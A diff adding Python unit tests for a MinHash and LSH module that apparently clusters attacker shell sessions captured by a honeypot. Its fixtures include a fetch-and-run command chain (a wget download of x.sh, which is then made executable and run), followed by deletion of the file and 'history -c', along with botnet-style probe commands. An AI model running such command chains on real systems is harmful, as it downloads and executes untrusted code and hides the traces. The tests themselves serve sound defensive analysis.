@@ -0,0 +1,73 @@
+"""Tests of session signatures and their LSH bands."""
+# Copyright (C) 2016 Russell Troxel
+
+# This program is free software: you can redistribute it and/or modify
+# it under the terms of the GNU General Public License as published by
+# the Free Software Foundation, either version 3 of the License, or
+# (at your option) any later version.
+
+# This program is distributed in the hope that it will be useful,
+# but WITHOUT ANY WARRANTY; without even the implied warranty of
+# MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+# GNU General Public License for more details.
+
+# You should have received a copy of the GNU General Public License
+# along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+from donthackme_api.search.minhash import MinHasher
+
+CAMPAIGN = ["cd /tmp", "wget http://198.51.100.7/x.sh", "chmod +x x.sh",
+            "./x.sh", "rm -f x.sh", "history -c", "uname -a", "exit"]
+
+
+def signature(hasher, commands):
+    return hasher.signature(hasher.shingles(commands))
+
+
+def test_normalise_masks_numbers_and_spaces():
+    assert MinHasher.normalise("  WGET  http://1.2.3.4:80/a ") == \
+        "wget http://0.0.0.0:0/a"
+
+
+def test_shingles_of_short_sessions():
+    hasher = MinHasher(shingle=3)
+    assert hasher.shingles([]) == set()
+    assert hasher.shingles(["w", "id"]) == set(["w\nid"])
+    assert len(hasher.shingles(["a", "b", "c", "d"])) == 2
+
+
+def test_signature_shape_and_bands():
+    hasher = MinHasher(bands=8, rows=2)
+    first = signature(hasher, CAMPAIGN)
+    assert len(first) == 16
+    keys = hasher.band_keys(first)
+    assert len(keys) == 8
+    assert [key.split(":")[0] for key in keys] == [str(n) for n in range(8)]
+
+
+def test_same_campaign_from_another_ip_shares_every_band():
+    hasher = MinHasher()
+    other = [command.replace("198.51.100.7", "203.0.113.9")
+             for command in CAMPAIGN]
+    first = signature(hasher, CAMPAIGN)
+    second = signature(hasher, other)
+    assert MinHasher.similarity(first, second) == 1.0
+    assert hasher.band_keys(first) == hasher.band_keys(second)
+
+
+def test_similar_sessions_share_a_band():
+    hasher = MinHasher()
+    variant = CAMPAIGN[:-1] + ["cat /proc/cpuinfo"]
+    first = signature(hasher, CAMPAIGN)
+    second = signature(hasher, variant)
+    assert 0.5 < MinHasher.similarity(first, second) < 1.0
+    assert set(hasher.band_keys(first)) & set(hasher.band_keys(second))
+
+
+def test_unrelated_sessions_share_no_band():
+    hasher = MinHasher()
+    first = signature(hasher, CAMPAIGN)
+    second = signature(hasher, ["enable", "system", "shell", "sh",
+                                "cat /proc/mounts", "busybox ECCHI"])
+    assert MinHasher.similarity(first, second) < 0.2
+    assert not set(hasher.band_keys(first)) & set(hasher.band_keys(second))